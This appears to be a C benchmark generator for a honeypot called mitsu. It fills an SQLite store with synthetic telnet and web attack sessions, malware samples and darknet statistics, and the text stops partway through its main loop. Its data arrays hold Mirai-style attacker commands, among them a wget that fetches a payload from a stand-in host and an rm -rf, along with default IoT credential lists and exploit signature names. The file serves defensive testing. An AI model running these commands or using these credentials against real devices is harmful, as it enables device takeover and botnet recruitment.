/* bench/report/gen: fills a mitsu store (created by mitsu itself, so the schema is the real
 * one) with months of synthetic attack data, fast, straight through SQLite: sessions and their
 * events (connect, params, failed and successful logins, commands, downloads, close) from a
 * skewed population of sources (a few very busy ones), samples with their sources and sandbox
 * verdicts, device identifications, darknet intervals with their ports and countries, and
 * web honeypot connections (one session in three, about 17 % of the events): HTTP
 * requests, web logins, device-specific WebUI actions and exploit signature matches, in the
 * shape src/webui writes them (docs/events.md, "Web events").
 *
 * usage: gen DB EVENTS DAYS
 * The secondary indexes of events and sessions are dropped during the load and rebuilt with
 * their own SQL at the end (as a bulk load would). Deterministic (fixed seed). */
#include <inttypes.h>
#include <sqlite3.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define SOURCES 200000
#define SAMPLES 20000
#define PROFILES 4

static uint64_t rng = 0x9e3779b97f4a7c15ull;
static uint64_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return rng;
}
static uint32_t below(uint32_t n)
{
	return (uint32_t)(rnd() % n);
}

static void ts(int64_t us, char out[32])
{
	time_t s = (time_t)(us / 1000000);
	struct tm tm;
	gmtime_r(&s, &tm);
	size_t n = strftime(out, 32, "%Y-%m-%dT%H:%M:%S", &tm);
	snprintf(out + n, 32 - n, ".%06lldZ", (long long)(us % 1000000));
}

static void die(sqlite3 *db, const char *what)
{
	fprintf(stderr, "gen: %s: %s\n", what, sqlite3_errmsg(db));
	exit(1);
}

static void exec(sqlite3 *db, const char *sql)
{
	if (sqlite3_exec(db, sql, NULL, NULL, NULL) != SQLITE_OK)
		die(db, sql);
}

static sqlite3_stmt *prep(sqlite3 *db, const char *sql)
{
	sqlite3_stmt *q;
	if (sqlite3_prepare_v2(db, sql, -1, &q, NULL) != SQLITE_OK)
		die(db, sql);
	return q;
}

static void done(sqlite3 *db, sqlite3_stmt *q)
{
	if (sqlite3_step(q) != SQLITE_DONE)
		die(db, "insert");
	sqlite3_reset(q);
}

/* A source address: a skewed draw (a few sources make most sessions), 198.18.0.0/15-like
 * public-looking space spread over /8s. */
static void source(char out[16])
{
	uint32_t r = below(1000);
	uint32_t idx = r < 300 ? below(20) : r < 600 ? below(2000) : below(SOURCES);
	uint32_t a = 0x0b000000u + idx * 2654435761u % 0xd0000000u;
	snprintf(out, 16, "%u.%u.%u.%u", a >> 24, (a >> 16) & 255, (a >> 8) & 255, a & 255);
}

static const char *const users[] = {"root",    "admin",       "support", "user",   "guest",
				    "default", "telnetadmin", "ubnt",    "888888", "666666"};
static const char *const pwds[] = {
	"xc3511", "vizxv",    "admin", "888888",       "default", "1234",   "12345",  "password",
	"root",   "juantech", "anko",  "7ujMko0admin", "hi3518",  "klv123", "Zte521", "dreambox"};
static const char *const cmds[] = {"enable",
				   "system",
				   "shell",
				   "sh",
				   "/bin/busybox ECCHI",
				   "cat /proc/cpuinfo",
				   "uname -a",
				   "cd /tmp || cd /var/run || cd /mnt; wget http://%s/bins.sh",
				   "/bin/busybox wget; /bin/busybox tftp; /bin/busybox MIRAI",
				   "echo -e '\\x41\\x4b\\x34\\x37'",
				   "rm -rf /tmp/* /var/tmp/*",
				   "cat /bin/echo",
				   "ps",
				   "nproc"};
static const char *const profiles[PROFILES] = {"dvr-hi3520d", "router-mips", "camera-arm",
					       "stb-sh4"};
static const char *const archs[] = {"mips", "mipsel", "arm", "arm7", "x86_64", "sh4", "ppc"};

struct ctx {
	sqlite3 *db;
	sqlite3_stmt *ev, *sess, *smp, *src, *box, *cnc;
	uint64_t nev, uuid_ctr;
	const char *proto; /* the sessions' protocol of the events written now (NULL: telnet) */
};

/* s as the inside of a JSON string (the generated texts hold backslashes, no control bytes). */
static void json_esc(const char *s, char *out, size_t n)
{
	size_t k = 0;
	for (; *s && k + 2 < n; s++) {
		if (*s == '\\' || *s == '"')
			out[k++] = '\\';
		out[k++] = *s;
	}
	out[k] = 0;
}

/* One event row; json is the whole event line. */
static void event(struct ctx *c, const char *eventid, int64_t us, const char *session,
		  const char *ip, int dport, const char *message, const char *fields)
{
	char t[32], uuid[40], line[2048];
	ts(us, t);
	uint64_t u = ++c->uuid_ctr;
	snprintf(uuid, sizeof(uuid), "%08" PRIx64 "-%04x-7%03x-8%03x-%012" PRIx64,
		 (uint64_t)(us / 1000) >> 16, (unsigned)(us / 1000 & 0xffff), (unsigned)below(4096),
		 (unsigned)below(4096), u);
	int n;
	if (session)
		n = snprintf(line, sizeof(line),
			     "{\"eventid\":\"%s\",\"timestamp\":\"%s\",\"sensor\":\"s1\","
			     "\"message\":\"%s\",\"uuid\":\"%s\",\"session\":\"%s\","
			     "\"protocol\":\"%s\",\"src_ip\":\"%s\",\"src_port\":%u,"
			     "\"dst_ip\":\"192.0.2.1\",\"dst_port\":%d%s%s}",
			     eventid, t, message, uuid, session, c->proto ? c->proto : "telnet", ip,
			     1024 + below(60000), dport, fields ? "," : "", fields ? fields : "");
	else
		n = snprintf(line, sizeof(line),
			     "{\"eventid\":\"%s\",\"timestamp\":\"%s\",\"sensor\":\"s1\","
			     "\"message\":\"%s\",\"uuid\":\"%s\"%s%s}",
			     eventid, t, message, uuid, fields ? "," : "", fields ? fields : "");
	sqlite3_bind_text(c->ev, 1, uuid, -1, SQLITE_TRANSIENT);
	sqlite3_bind_text(c->ev, 2, eventid, -1, SQLITE_STATIC);
	sqlite3_bind_text(c->ev, 3, t, -1, SQLITE_TRANSIENT);
	sqlite3_bind_text(c->ev, 4, "s1", -1, SQLITE_STATIC);
	if (session) {
		sqlite3_bind_text(c->ev, 5, session, -1, SQLITE_TRANSIENT);
		sqlite3_bind_text(c->ev, 6, ip, -1, SQLITE_TRANSIENT);
	} else {
		sqlite3_bind_null(c->ev, 5);
		sqlite3_bind_null(c->ev, 6);
	}
	sqlite3_bind_text(c->ev, 7, line, n, SQLITE_TRANSIENT);
	done(c->db, c->ev);
	c->nev++;
}

static void sample(struct ctx *c, uint32_t i, int64_t us, const char *ip, const char *session,
		   const char *url)
{
	char sha[65], t[32];
	snprintf(sha, sizeof(sha), "%016x%016x%016x%016x", i * 2654435761u, i, ~i, i ^ 0x5a5a5a5a);
	ts(us, t);
	sqlite3_bind_text(c->src, 1, sha, -1, SQLITE_TRANSIENT);
	sqlite3_bind_text(c->src, 2, t, -1, SQLITE_TRANSIENT);
	sqlite3_bind_text(c->src, 3, url, -1, SQLITE_TRANSIENT);
	sqlite3_bind_text(c->src, 4, ip, -1, SQLITE_TRANSIENT);
	sqlite3_bind_text(c->src, 5, session, -1, SQLITE_TRANSIENT);
	done(c->db, c->src);
}

/* A sessions row, as the sensor's writer keeps it. */
struct srow {
	const char *sid, *profile, *ip;
	int dport;
	int64_t start, end; /* microseconds */
	int login;
	const char *user, *pass; /* NULL: none */
	int fails, commands, downloads;
	const char *protocol, *reason;
};

static void session_row(struct ctx *c, const struct srow *r)
{
	char t[32], t2[32];
	ts(r->start, t);
	ts(r->end, t2);
	sqlite3_stmt *q = c->sess;
	sqlite3_bind_text(q, 1, r->sid, -1, SQLITE_TRANSIENT);
	sqlite3_bind_text(q, 2, r->profile, -1, SQLITE_STATIC);
	sqlite3_bind_text(q, 3, r->ip, -1, SQLITE_TRANSIENT);
	sqlite3_bind_int(q, 4, r->dport);
	sqlite3_bind_text(q, 5, t, -1, SQLITE_TRANSIENT);
	sqlite3_bind_text(q, 6, t2, -1, SQLITE_TRANSIENT);
	sqlite3_bind_double(q, 7, (double)(r->end - r->start) / 1e6);
	sqlite3_bind_int(q, 8, r->login);
	if (r->user) {
		sqlite3_bind_text(q, 9, r->user, -1, SQLITE_STATIC);
		sqlite3_bind_text(q, 10, r->pass, -1, SQLITE_STATIC);
	} else {
		sqlite3_bind_null(q, 9);
		sqlite3_bind_null(q, 10);
	}
	sqlite3_bind_int(q, 11, r->fails);
	sqlite3_bind_int(q, 12, r->commands);
	sqlite3_bind_int(q, 13, r->downloads);
	sqlite3_bind_text(q, 14, r->protocol, -1, SQLITE_STATIC);
	sqlite3_bind_text(q, 15, r->reason, -1, SQLITE_STATIC);
	done(c->db, q);
}

/* A new connection's source and session id. */
static void new_session(uint64_t id, char ip[16], char sid[17])
{
	source(ip);
	snprintf(sid, 17, "%016" PRIx64, (uint64_t)(id * 0x9e3779b97f4a7c15ull));
}

/* Its mitsu.session.connect. */
static void connect_event(struct ctx *c, int64_t us, const char *sid, const char *ip, int dport,
			  const char *profile)
{
	char f[128], m[128];
	snprintf(f, sizeof(f), "\"profile\":\"%s\"", profile);
	snprintf(m, sizeof(m), "new connection: %s [session: %s]", ip, sid);
	event(c, "mitsu.session.connect", us, sid, ip, dport, m, f);
}

/* One session and its events; returns the events written. */
static void session(struct ctx *c, int64_t us, uint64_t id)
{
	char ip[16], sid[17], f[512], m[512];
	new_session(id, ip, sid);
	const char *profile = profiles[below(PROFILES)];
	int dport = below(4) ? 23 : 2323;
	connect_event(c, us, sid, ip, dport, profile);
	event(c, "mitsu.session.params", us + 1000, sid, ip, dport, "terminal size 80x24",
	      "\"width\":80,\"height\":24");
	int fails = (int)below(4), login = below(10) < 6, ncmd = login ? (int)below(9) : 0;
	const char *u = users[below(10)], *p = pwds[below(16)];
	int64_t at = us + 2000;
	for (int k = 0; k < fails; k++, at += 500000) {
		const char *fu = users[below(10)], *fp = pwds[below(16)];
		snprintf(f, sizeof(f), "\"username\":\"%s\",\"password\":\"%s\"", fu, fp);
		snprintf(m, sizeof(m), "login attempt [%s/%s] failed", fu, fp);
		event(c, "mitsu.login.failed", at, sid, ip, dport, m, f);
	}
	if (login) {
		snprintf(f, sizeof(f), "\"username\":\"%s\",\"password\":\"%s\"", u, p);
		snprintf(m, sizeof(m), "login attempt [%s/%s] succeeded", u, p);
		event(c, "mitsu.login.success", at, sid, ip, dport, m, f);
	}
	char host[16];
	snprintf(host, sizeof(host), "198.51.%u.%u", below(8), below(250));
	int downloads = 0;
	for (int k = 0; k < ncmd; k++) {
		at += 300000;
		char cmd[256], esc[400];
		snprintf(cmd, sizeof(cmd), cmds[below(14)], host);
		json_esc(cmd, esc, sizeof(esc));
		snprintf(f, sizeof(f), "\"input\":\"%s\"", esc);
		snprintf(m, sizeof(m), "CMD: %s", esc);
		event(c, "mitsu.command.input", at, sid, ip, dport, m, f);
		if (strstr(cmd, "wget http") && downloads < 1) {
			downloads++;
			uint32_t s = below(SAMPLES);
			char url[96], sha[65];
			snprintf(url, sizeof(url), "http://%s/bins.sh", host);
			snprintf(sha, sizeof(sha), "%016x%016x%016x%016x", s * 2654435761u, s, ~s,
				 s ^ 0x5a5a5a5a);
			snprintf(f, sizeof(f),
				 "\"url\":\"%s\",\"shasum\":\"%s\",\"size\":4321,\"destfile\":"
				 "\"bins.sh\",\"duplicate\":true,\"method\":\"wget\"",
				 url, sha);
			snprintf(m, sizeof(m), "downloaded %s", url);
			event(c, "mitsu.session.file_download", at + 1000, sid, ip, dport, m, f);
			sample(c, s, at + 1000, ip, sid, url);
		}
	}
	at += 400000;
	snprintf(f, sizeof(f), "\"duration\":%.1f,\"reason\":\"peer\"", (double)(at - us) / 1e6);
	event(c, "mitsu.session.closed", at, sid, ip, dport, "session closed (peer)", f);
	struct srow r = {sid,
			 profile,
			 ip,
			 dport,
			 us,
			 at,
			 login,
			 login ? u : NULL,
			 login ? p : NULL,
			 fails,
			 ncmd,
			 downloads,
			 "telnet",
			 "peer"};
	session_row(c, &r);
}

/* The web honeypot's profiles (profiles/NAME/web.ini), its paths, and the exploit signatures
 * of rules/exploits with their CVE (NULL: none assigned) and intent. */
#define WEB_PROFILES 6
static const char *const web_profiles[WEB_PROFILES] = {"ipcam-a",     "router-c",  "hg532",
						       "realtek-igd", "printer-h", "tr064"};
static const char *const web_paths[] = {"/",
					"/index.html",
					"/login.htm",
					"/favicon.ico",
					"/cgi-bin/luci",
					"/HNAP1/",
					"/.env",
					"/robots.txt",
					"/doc/page/login.asp",
					"/setup.cgi",
					"/boaform/admin",
					"/GponForm/diag_Form"};
static const char *const web_agents[] = {
	"Mozilla/5.0", "curl/7.68.0", "Hello, World", "python-requests/2.25.1", "Mozila/5.0", "-"};
static const char *const web_users[] = {"admin", "root", "user", "support", "guest", "888888"};
static const char *const web_pwds[] = {"admin", "12345",  "password", "1234",
				       "",      "888888", "root",     "admin123"};
static const char *const schemes[] = {"basic", "form", "digest"};
/* action, intent, outcome (docs/events.md); the first ones are drawn more often. */
static const char *const web_actions[][3] = {
	{"status", "recon", "reconnaissance"},
	{"settings_export", "info_theft", "information_leak"},
	{"snapshot", "info_theft", "peeping"},
	{"recordings", "info_theft", "peeping"},
	{"dns", "setting_change", "redirect_to_malicious_sites"},
	{"admin_password", "setting_change", "monopolised_stepping_stone"},
	{"firewall", "setting_change", "monopolised_stepping_stone"},
	{"vpn_server", "setting_change", "stepping_stone"},
	{"vpn_client", "setting_change", "stepping_stone"},
	{"ddns", "setting_change", "stepping_stone"},
	{"firmware_upload", "setting_change", "botnet_recruitment"},
	{"reboot", "setting_change", "service_disruption"}};
static const char *const exploits[][3] = {
	{"huawei-hg532-upgrade-rce", "CVE-2017-17215", "rce"},
	{"realtek-miniigd-rce", "CVE-2014-8361", "rce"},
	{"gpon-diag-rce", "CVE-2018-10561 CVE-2018-10562", "rce"},
	{"netgear-cgibin-rce", "CVE-2016-6277", "rce"},
	{"dlink-hnap-rce", "CVE-2015-2051", "rce"},
	{"linksys-themoon-rce", NULL, "rce"},
	{"tr064-ntp-rce", "CVE-2016-10372", "rce"},
	{"zte-rom0-config", "CVE-2014-4019", "info_theft"},
	{"dlink-getcfg-leak", NULL, "info_theft"},
	{"hikvision-weblanguage-rce", "CVE-2021-36260", "rce"},
	{"hikvision-auth-bypass", "CVE-2017-7921", "info_theft"},
	{"jaws-shell-rce", NULL, "rce"},
	{"wificam-system-ini-leak", "CVE-2017-8225", "info_theft"},
	{"xiongmai-path-traversal", "CVE-2017-7577", "info_theft"}};

/* One mitsu.http.request. */
static void web_request(struct ctx *c, int64_t us, const char *sid, const char *ip, int dport,
			const char *profile, const char *method, const char *uri, int body)
{
	char f[1024], m[300], sha[80];
	const char *ua = web_agents[below(6)];
	if (body)
		snprintf(sha, sizeof(sha),
			 "\"%016" PRIx64 "%016" PRIx64 "%016" PRIx64 "%016" PRIx64 "\"", rnd(),
			 rnd(), rnd(), rnd());
	else
		snprintf(sha, sizeof(sha), "null");
	snprintf(f, sizeof(f),
		 "\"method\":\"%s\",\"uri\":\"%s\",\"version\":\"HTTP/1.1\",\"host\":\"192.0.2.1\","
		 "\"user_agent\":\"%s\",\"headers\":{\"Host\":\"192.0.2.1\",\"User-Agent\":\"%s\"},"
		 "\"body_size\":%d,\"body_sha256\":%s,\"profile\":\"%s\"",
		 method, uri, ua, ua, body, sha, profile);
	snprintf(m, sizeof(m), "%s %s", method, uri);
	event(c, "mitsu.http.request", us, sid, ip, dport, m, f);
}

/* One web honeypot connection (a sessions row of protocol http, as the sensor keeps one) and
 * its events: a scan of a few pages, a login guesser (who may get in and act on the device),
 * or an exploit. */
static void web_session(struct ctx *c, int64_t us, uint64_t id)
{
	char ip[16], sid[17], f[768], m[512];
	new_session(id, ip, sid);
	const char *profile = web_profiles[below(WEB_PROFILES)];
	int dport = below(3) ? 80 : 8080;
	c->proto = "http";
	connect_event(c, us, sid, ip, dport, profile);
	int64_t at = us + 1000;
	uint32_t kind = below(10);
	if (kind < 4) { /* a scanner: a few pages */
		for (int k = 1 + (int)below(3); k > 0; k--, at += 200000)
			web_request(c, at, sid, ip, dport, profile, "GET", web_paths[below(12)], 0);
	} else if (kind < 7) { /* a login guesser */
		web_request(c, at, sid, ip, dport, profile, "GET", "/", 0);
		int tries = 1 + (int)below(4), in = 0;
		for (int k = 0; k < tries && !in; k++) {
			at += 300000;
			const char *sc = schemes[below(3)], *u = web_users[below(6)],
				   *p = web_pwds[below(8)];
			in = below(5) == 0;
			web_request(c, at, sid, ip, dport, profile, sc[0] == 'f' ? "POST" : "GET",
				    sc[0] == 'f' ? "/login.cgi" : "/", sc[0] == 'f' ? 40 : 0);
			snprintf(f, sizeof(f),
				 "\"scheme\":\"%s\",\"username\":\"%s\",\"password\":\"%s\","
				 "\"success\":%s,\"profile\":\"%s\"",
				 sc, u, p, in ? "true" : "false", profile);
			snprintf(m, sizeof(m), "%s login attempt [%s/%s] %s", sc, u, p,
				 in ? "succeeded" : "failed");
			event(c, "mitsu.http.login", at, sid, ip, dport, m, f);
		}
		for (int k = in ? 1 + (int)below(3) : 0; k > 0; k--) {
			at += 400000;
			uint32_t r = below(20);
			const char *const *a = web_actions[r < 8 ? 0 : r < 10 ? 1 : r - 8];
			int post = strcmp(a[1], "setting_change") == 0;
			char uri[64];
			snprintf(uri, sizeof(uri), "/cgi-bin/%s.cgi", a[0]);
			web_request(c, at, sid, ip, dport, profile, post ? "POST" : "GET", uri,
				    post ? 64 : 0);
			snprintf(f, sizeof(f),
				 "\"profile\":\"%s\",\"action\":\"%s\",\"intent\":\"%s\","
				 "\"outcome\":\"%s\",\"uri\":\"%s\"%s",
				 profile, a[0], a[1], a[2], uri,
				 post ? ",\"changes\":{\"value\":\"198.51.100.7\"}" : "");
			snprintf(m, sizeof(m), "%s on %s: %s (%s)", a[0], profile, a[1], a[2]);
			event(c, "mitsu.webui.action", at, sid, ip, dport, m, f);
		}
	} else { /* an exploit: its request and the signature(s) it matched */
		const char *const *x = exploits[below(14)];
		char uri[96];
		snprintf(uri, sizeof(uri), "/%s", x[0]);
		web_request(c, at, sid, ip, dport, profile, "POST", uri, 300);
		for (int k = below(8) ? 1 : 2; k > 0; k--, x = exploits[below(14)]) {
			char cve[48];
			if (x[1])
				snprintf(cve, sizeof(cve), "\"%s\"", x[1]);
			else
				snprintf(cve, sizeof(cve), "null");
			int rce = strcmp(x[2], "rce") == 0;
			snprintf(f, sizeof(f),
				 "\"signature\":\"%s\",\"cve\":%s,\"description\":\"%s\","
				 "\"intent\":\"%s\",\"outcome\":\"%s\",\"profile\":\"%s\"",
				 x[0], cve, x[0], x[2],
				 rce ? "botnet_recruitment" : "information_leak", profile);
			snprintf(m, sizeof(m), "exploit %s (%s): %s", x[0], x[1] ? x[1] : "no CVE",
				 x[0]);
			event(c, "mitsu.exploit.match", at, sid, ip, dport, m, f);
		}
	}
	at += 100000;
	snprintf(f, sizeof(f), "\"duration\":%.1f,\"reason\":\"done\"", (double)(at - us) / 1e6);
	event(c, "mitsu.session.closed", at, sid, ip, dport, "session closed (done)", f);
	c->proto = NULL;
	struct srow r = {sid, profile, ip, dport, us, at, 0, NULL, NULL, 0, 0, 0, "http", "done"};
	session_row(c, &r);
}

/* A mitsu.ident.result in the shape src/ident writes (docs/events.md): about one of the
 * sources, answered by 3 in 4, identified (a DVR, an IP camera or a router) by 1 in 2. */
static void ident_result(struct ctx *c, int64_t us)
{
	static const char *const cats[][5] = {
		{"dvr", "surveillance", "DVR (digital video recorder)", "Hikvision", "DS-7204"},
		{"ip-camera", "surveillance", "IP camera", "Dahua", "IPC-HFW1320S"},
		{"router", "network", "router / gateway", "Huawei", "HG532"}};
	char f[768], ip[16];
	source(ip);
	uint32_t r = below(4);
	if (r < 2) {
		snprintf(f, sizeof(f),
			 "\"host\":\"%s\",\"identified\":false,\"answered\":%s,"
			 "\"confidence\":0.0,\"duration_ms\":%d,\"probes\":[],\"evidence\":[],"
			 "\"fields\":{%s}",
			 ip, r ? "true" : "false", r ? 1200 : 3000,
			 r ? "\"telnet:23:banner\":\"login:\"" : "");
		event(c, "mitsu.ident.result", us, NULL, NULL, 0, "no device identified", f);
		return;
	}
	const char *const *k = cats[below(3)];
	snprintf(f, sizeof(f),
		 "\"host\":\"%s\",\"identified\":true,\"answered\":true,\"category\":\"%s\","
		 "\"category_name\":\"%s\",\"group\":\"%s\",\"vendor\":\"%s\",\"model\":\"%s\","
		 "\"confidence\":0.9,\"duration_ms\":800,\"probes\":[],"
		 "\"evidence\":[{\"probe\":\"http\",\"port\":80,\"description\":\"%s "
		 "Server header\"}],\"fields\":{\"http:80:server\":\"%s\"}",
		 ip, k[0], k[2], k[1], k[3], k[4], k[3], k[3]);
	event(c, "mitsu.ident.result", us, NULL, NULL, 0, "device identified", f);
}

static void samples_and_verdicts(struct ctx *c, int64_t t0, int64_t span)
{
	for (uint32_t i = 0; i < SAMPLES; i++) {
		char sha[65], t[32], v[1024];
		snprintf(sha, sizeof(sha), "%016x%016x%016x%016x", i * 2654435761u, i, ~i,
			 i ^ 0x5a5a5a5a);
		int64_t us = t0 + (int64_t)(rnd() % (uint64_t)span);
		ts(us, t);
		const char *arch = archs[below(7)];
		sqlite3_bind_text(c->smp, 1, sha, -1, SQLITE_TRANSIENT);
		sqlite3_bind_text(c->smp, 2, arch, -1, SQLITE_STATIC);
		sqlite3_bind_text(c->smp, 3, t, -1, SQLITE_TRANSIENT);
		done(c->db, c->smp);
		int lan = below(100) < 4, scan = below(10) < 8;
		const char *fam = below(2) ? "mirai" : "gafgyt";
		char cnc[16];
		snprintf(cnc, sizeof(cnc), "203.0.%u.%u", below(4), below(250));
		snprintf(v, sizeof(v),
			 "{\"sha256\":\"%s\",\"arch\":\"%s\",\"family\":\"%s\",\"verdict\":"
			 "\"malicious\",\"analysed\":\"%s\",\"seconds\":%u,\"cnc\":[{\"host\":\"%"
			 "s\","
			 "\"ip\":\"%s\",\"port\":23,\"protocol\":\"tcp\"}],\"scan\":{\"detected\":%"
			 "s},"
			 "\"lan_attack\":{\"detected\":%s,\"evidence\":[]},\"ddos\":{\"detected\":"
			 "false},\"dynamic\":{\"ran\":true},\"static\":{\"yara\":[]}}",
			 sha, arch, fam, t, 30 + below(60), cnc, cnc, scan ? "true" : "false",
			 lan ? "true" : "false");
		sqlite3_stmt *q = c->box;
		sqlite3_bind_text(q, 1, sha, -1, SQLITE_TRANSIENT);
		sqlite3_bind_text(q, 2, arch, -1, SQLITE_STATIC);
		sqlite3_bind_text(q, 3, fam, -1, SQLITE_STATIC);
		sqlite3_bind_text(q, 4, t, -1, SQLITE_TRANSIENT);
		sqlite3_bind_int(q, 5, scan);
		sqlite3_bind_int(q, 6, lan);
		sqlite3_bind_text(q, 7, v, -1, SQLITE_TRANSIENT);
		done(c->db, q);
		sqlite3_int64 rid = sqlite3_last_insert_rowid(c->db);
		sqlite3_bind_int64(c->cnc, 1, rid);
		sqlite3_bind_text(c->cnc, 2, sha, -1, SQLITE_TRANSIENT);
		sqlite3_bind_text(c->cnc, 3, cnc, -1, SQLITE_TRANSIENT);
		done(c->db, c->cnc);
		if (i % 4 == 0)
			ident_result(c, us + 5000000);
	}
}

/* One scope run per day of hourly intervals. */
static void darknet(struct ctx *c, int64_t t0s, int days)
{
	sqlite3_stmt *iv = prep(c->db, "INSERT INTO scope_intervals VALUES(?1,?2,?3,3600,?4,?5,?6,"
				       "100,?7,?8,10,5,3,2,?9,?10,?11,1,1,1,1,?12,?13,?14,?15,?16,"
				       "?17,?18,?19)");
	sqlite3_stmt *pt = prep(c->db, "INSERT INTO scope_ports VALUES(?1,?2,?3,?4,?5,?6)");
	sqlite3_stmt *cc = prep(c->db, "INSERT INTO scope_countries VALUES(?1,?2,?3,?4,?5,?6)");
	static const char *const ccs[] = {"CN", "US", "BR", "RU", "JP", "IN", "VN", "KR",
					  "TW", "TR", "DE", "FR", "IR", "ID", "EG", "MX"};
	for (int d = 0; d < days; d++) {
		char t[32], report[8192];
		int64_t day = t0s + (int64_t)d * 86400;
		ts(day * 1000000, t);
		/* One run per day; its report lists scanners and DoS victims, as mitsu scope's. */
		int n = snprintf(report, sizeof(report), "{\"scanners\":{\"top\":[");
		for (int k = 0; k < 20; k++) {
			char ip[16];
			source(ip);
			n += snprintf(
				report + n, sizeof(report) - (size_t)n,
				"%s{\"source\":\"%s\",\"proto\":\"tcp\",\"port\":23,\"first\":"
				"\"%s\",\"last\":\"%s\",\"packets\":%u,\"labels\":[\"mirai\"],"
				"\"country\":\"%s\"}",
				k ? "," : "", ip, t, t, 1000 + below(9000), ccs[below(16)]);
		}
		n += snprintf(report + n, sizeof(report) - (size_t)n,
			      "]},\"backscatter\":{\"attacks\":[]}}");
		char *sql = sqlite3_mprintf(
			"INSERT INTO scope_runs(started, inputs, interval, darknet, report) VALUES "
			"(%Q, '[]', 3600, '[]', %Q)",
			t, report);
		exec(c->db, sql);
		sqlite3_free(sql);
		sqlite3_int64 run = sqlite3_last_insert_rowid(c->db);
		for (int h = 0; h < 24; h++) {
			int64_t s = day + h * 3600;
			ts(s * 1000000, t);
			uint32_t pk = 500000 + below(500000), src = 20000 + below(20000);
			int64_t v[] = {run,
				       0,
				       s,
				       pk,
				       pk * 60,
				       src,
				       pk * 7 / 10,
				       pk / 10,
				       pk * 45 / 100,
				       src / 5,
				       pk / 10,
				       pk / 50,
				       below(500),
				       30 + below(40),
				       src * 9 / 10,
				       src / 20,
				       src / 50,
				       src / 50,
				       src / 10};
			sqlite3_bind_int64(iv, 1, run);
			sqlite3_bind_text(iv, 2, t, -1, SQLITE_TRANSIENT);
			for (int k = 2; k < 19; k++)
				sqlite3_bind_int64(iv, k + 1, v[k]);
			done(c->db, iv);
			for (int p = 0; p < 100; p++) {
				sqlite3_bind_int64(pt, 1, run);
				sqlite3_bind_int64(pt, 2, s);
				sqlite3_bind_text(pt, 3, p % 10 == 9 ? "udp" : "tcp", -1,
						  SQLITE_STATIC);
				sqlite3_bind_int(pt, 4,
						 p == 0   ? 23
						 : p == 1 ? 2323
							  : 1000 + p * 37);
				sqlite3_bind_int64(pt, 5, pk / (uint32_t)(p + 2));
				sqlite3_bind_int64(pt, 6, src / (uint32_t)(p + 2));
				done(c->db, pt);
			}
			for (int k = 0; k < 16; k++) {
				sqlite3_bind_int64(cc, 1, run);
				sqlite3_bind_int64(cc, 2, s);
				sqlite3_bind_text(cc, 3, ccs[k], -1, SQLITE_STATIC);
				sqlite3_bind_int64(cc, 4, src / (uint32_t)(k + 2));
				sqlite3_bind_int64(cc, 5, pk / (uint32_t)(k + 2));
				sqlite3_bind_int64(cc, 6, src / (uint32_t)(k + 8));
				done(c->db, cc);
			}
		}
	}
	sqlite3_finalize(iv);
	sqlite3_finalize(pt);
	sqlite3_finalize(cc);
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: gen DB EVENTS DAYS\n");
		return 2;
	}
	uint64_t want = strtoull(argv[2], NULL, 10);
	int days = atoi(argv[3]);
	struct ctx c = {0};
	if (sqlite3_open(argv[1], &c.db) != SQLITE_OK)
		die(c.db, "open");
	exec(c.db, "PRAGMA journal_mode=WAL; PRAGMA synchronous=OFF; PRAGMA cache_size=-1000000;");
	/* The secondary indexes, dropped for the load and rebuilt from their own SQL. */
	char *indexes[32], *names[32];
	int nidx = 0;
	sqlite3_stmt *q = prep(c.db, "SELECT name, sql FROM sqlite_master WHERE type = 'index' AND "
				     "sql IS NOT NULL AND tbl_name IN ('events', 'sessions')");
	while (sqlite3_step(q) == SQLITE_ROW && nidx < 32) {
		names[nidx] = strdup((const char *)sqlite3_column_text(q, 0));
		indexes[nidx++] = strdup((const char *)sqlite3_column_text(q, 1));
	}
	sqlite3_finalize(q);
	for (int i = 0; i < nidx; i++) {
		char *drop = sqlite3_mprintf("DROP INDEX \"%w\"", names[i]);
		exec(c.db, drop);
		sqlite3_free(drop);
		free(names[i]);
	}
	exec(c.db, "BEGIN");
	/* ?1 (uuid) and ?4 (sensor) are bound but not stored: the uuid and the sensor are in the
	 * JSON, as mitsu's writer keeps them. */
	c.ev = prep(c.db, "INSERT INTO events(eventid, timestamp, session, src_ip, json)"
			  " VALUES (?2, ?3, ?5, ?6, ?7)");
	c.sess =
		prep(c.db, "INSERT INTO sessions(sensor, session, protocol, profile, src_ip, "
			   "src_port, dst_ip, dst_port, start, end, duration, login, username, "
			   "password, login_failures, commands, downloads, uploads, reason) VALUES "
			   "('s1', ?1, ?14, ?2, ?3, 40000, '192.0.2.1', ?4, ?5, ?6, ?7, ?8, ?9, "
			   "?10, ?11, ?12, ?13, 0, ?15)");
	c.smp = prep(c.db, "INSERT OR IGNORE INTO samples(sha256, sha1, md5, size, filetype, arch, "
			   "first_seen, last_seen, times_seen) VALUES (?1, substr(?1, 1, 40), "
			   "substr(?1, 1, 32), 4321, 'ELF', ?2, ?3, ?3, 1)");
	c.src = prep(c.db, "INSERT INTO sample_sources(sha256, seen, source, method, url, src_ip, "
			   "session, destfile) VALUES (?1, ?2, 'download', 'wget', ?3, ?4, ?5, "
			   "'bins.sh')");
	c.box = prep(c.db,
		     "INSERT INTO box_results(sha256, arch, family, analysed, captured, "
		     "seconds, dynamic, scan, lan_attack, ddos, killer, persistence, cnc, "
		     "verdict, word) VALUES (?1, ?2, ?3, ?4, ?4, 60, 1, ?5, ?6, 0, 0, 0, 1, ?7, "
		     "json_extract(?7, '$.verdict'))");
	c.cnc = prep(c.db, "INSERT INTO box_cnc(result, sha256, host, ip, port, protocol) VALUES "
			   "(?1, ?2, ?3, ?3, 23, 'tcp')");
	/* The data ends now, as a live sensor's store does. */
	int64_t t_end = (int64_t)time(NULL);
	int64_t t0 = (t_end - (int64_t)days * 86400) * 1000000;
	int64_t span = (int64_t)days * 86400 * 1000000;
	samples_and_verdicts(&c, t0, span);
	darknet(&c, t_end - (int64_t)days * 86400, days);
	/* Sessions spread evenly over the days: the gap between two is what is left of the time
	 * over the sessions still needed, at the events per session seen so far (about 6); one
	 * in three is a web honeypot connection. */
	uint64_t first = c.nev, sess = 0;
	int64_t at = t0, end = t0 + span;
	while (c.nev < want) {
		double per = sess ? (double)(c.nev - first) / (double)sess : 7.0;
		double left = (double)(want - c.nev) / per;
		int64_t step = (int64_t)((double)(end - at) / (left > 1 ? left : 1));
